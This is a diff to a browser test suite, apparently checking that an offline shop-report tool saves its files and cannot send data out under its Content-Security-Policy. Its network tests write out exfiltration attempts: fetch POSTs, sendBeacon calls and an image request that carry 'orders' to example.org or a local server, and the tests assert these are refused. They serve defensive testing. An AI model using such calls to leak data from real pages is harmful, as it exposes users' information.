@@ -1,10 +1,12 @@
 // The tab in a real browser, on the example shop: it shows, answers and saves what the command writes; asks for nothing after it was loaded; works offline, and
 // where WebAssembly may not be compiled.
+import { readFileSync, writeFileSync } from 'node:fs';
 import { unzipSync } from 'fflate';
 import { afterAll, beforeAll, describe, expect } from 'vitest';
+import { withPlayground } from './runtimes/playground';
 import { hasChromium, hasFirefox, launchFirefox } from './runtimes/installed';
 import { serve } from './runtimes/static-server';
-import { commandFiles, expectSameFiles, runExample, saved, savedFiles, withPlayground, withTab, type Files } from './runtimes/tab';
+import { commandFiles, expectSameFiles, runExample, saved, savedFiles, withTab, type Files } from './runtimes/tab';
 import { testWith } from './support/needs';
 
 const testInChromium = testWith('Chromium and `npm ci --prefix test/runtimes`', hasChromium());
@@ -26,6 +28,18 @@ beforeAll(
 );
 afterAll(() => done());
 
+/** The title of a frame, once it has scrolled. (Asked from outside: where scripts are forbidden no timer runs.) */
+async function scrolled(frame: { evaluate(expression: string): Promise<unknown> }): Promise<unknown> {
+  for (let tries = 0; tries < 100; tries++) {
+    if (await frame.evaluate('scrollY > 0')) return frame.evaluate('document.title');
+    await new Promise((resolve) => setTimeout(resolve, 20));
+  }
+  return 'not scrolled';
+}
+
+/** Can the worker compile WebAssembly? */
+const COMPILED = `(() => { try { return !!new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); } catch { return false; } })()`;
+
 describe('the tab on the example shop', () => {
   testInChromium('shows the report and saves the command’s files, one by one and as one', () =>
     withTab(folder, async (tab) => {
@@ -33,6 +47,8 @@ describe('the tab on the example shop', () => {
       expect(await tab.page.isVisible('#report')).toBe(true);
       const [frame] = tab.page.frames().filter((one) => one.parentFrame());
       expect(await frame.evaluate('document.body.innerText')).toContain('5,000');
+      await frame.click('a[href^="#"]'); // within the report, not to another page
+      expect(await scrolled(frame)).toMatch(/^Your customers/);
       expectSameFiles(await savedFiles(tab), command);
       const zip = Object.entries(unzipSync(await saved(tab.page, '#save-all')));
       expectSameFiles(new Map(zip.map(([name, bytes]) => [name, Buffer.from(bytes)])), command);
@@ -120,20 +136,42 @@ describe('the network', () => {
     }),
   );
 
-  testInChromium('the page may not use it: its own policy forbids', () =>
-    withTab(folder, async ({ page, server }) => {
-      const tried = `fetch('https://example.org/', { method: 'POST', body: 'orders' }).then(() => 'sent', () => 'refused')`;
-      expect(await page.evaluate(tried)).toBe('refused');
-      expect(await page.evaluate(tried.replace('https://example.org/', server.url))).toBe('refused');
-      expect(await page.evaluate(`navigator.sendBeacon(${JSON.stringify(server.url)}, 'orders') && 'queued'`)).not.toBe('sent');
-      expect(server.requests).toEqual([]);
+  testInChromium('may not be used by the page: its own policy forbids', () =>
+    withTab(folder, async ({ page, server, violations }) => {
+      const url = JSON.stringify(server.url);
+      expect(await page.evaluate(`fetch(${url}, { method: 'POST', body: 'orders' }).then(() => 'sent', () => 'refused')`)).toBe('refused');
+      await page.evaluate(`navigator.sendBeacon(${url}, 'orders')`);
+      await page.evaluate(
+        `new Promise((resolve) => { const image = new Image(); image.onerror = resolve; image.src = 'https://example.org/?orders'; })`,
+      );
+      await page.waitForTimeout(500);
+      expect(server.requests.filter((path) => path !== 'service-worker.js')).toEqual([]);
+      expect(violations.length).toBeGreaterThanOrEqual(3);
     }),
+  );
+
+  testInChromium('may not be used by the worker either, under the header of README', () =>
+    withTab(
+      folder,
+      async (tab) => {
+        expect(await runExample(tab)).toBe('done');
+        expectSameFiles(await savedFiles(tab), command);
+        const [worker] = tab.page.workers();
+        expect(await worker.evaluate(COMPILED)).toBe(true);
+        const refused = await worker.evaluate(`new Promise((resolve) => {
+          addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective));
+          fetch('https://example.org/', { method: 'POST', body: 'orders', mode: 'no-cors' }).then(() => resolve('sent'), () => {});
+        })`);
+        expect(refused).toBe('connect-src');
+        expect(tab.violations).toEqual([]);
+      },
+      headerOfReadme(),
+    ),
   );
 
   testInChromium('a new version waits until the user wants it, and leaves nothing of the old one', () =>
     withPlayground((next) =>
       withTab(next, async ({ page, server }) => {
-        const { readFileSync, writeFileSync } = await import('node:fs');
         const worker = `${next}/service-worker.js`;
         writeFileSync(worker, readFileSync(worker, 'utf8').replace(/"version":"\w+"/, '"version":"next"'));
         await page.evaluate(`navigator.serviceWorker.getRegistration().then((one) => one.update()).then(() => {})`);
@@ -154,6 +192,7 @@ testInChromium("under the header script-src 'self', where WebAssembly may not be
     async (tab) => {
       expect(await runExample(tab)).toBe('done');
       expectSameFiles(await savedFiles(tab), command);
+      expect(await tab.page.workers()[0].evaluate(COMPILED)).toBe(false); // so the policy was in force
       for (const violation of tab.violations) expect(violation).toMatch(/WebAssembly/);
     },
     "script-src 'self'",
@@ -171,7 +210,9 @@ testInFirefox('in Firefox it gives the same bytes', async () => {
     await page.click('#example');
     await page.waitForSelector('html[data-state=done]', { timeout: 120_000 });
     expect(server.requests).toEqual([]);
-    expect(await page.evaluate(`document.getElementById('report').srcdoc.includes('5,000')`)).toBe(true);
+    const report = page.frames()[1];
+    await (await report.waitForSelector('a[href^="#"]')).click();
+    expect(await scrolled(report)).toMatch(/^Your customers/);
     // downloads leave no trace that BiDi could read: the same Blobs, caught on their way
     const files = (await page.evaluate(`(async () => {
       const caught = [], create = URL.createObjectURL;
@@ -200,6 +241,12 @@ const firstChoice = (csv: Buffer, after: number) =>
     .slice(after)
     .map((line) => line.split(','))
     .find(([, rank]) => rank === '1')!;
+
+/** The header that a host should send. */
+function headerOfReadme(): string {
+  const text = readFileSync('examples/playground/README.md', 'utf8');
+  return /^Content-Security-Policy: (.*)$/m.exec(text)![1];
+}
 
 function segmentOf(customer: string): string {
   const line = command.get('segments.csv')!.toString().split('\n').find((text) => text.startsWith(`${customer},`))!; // prettier-ignore
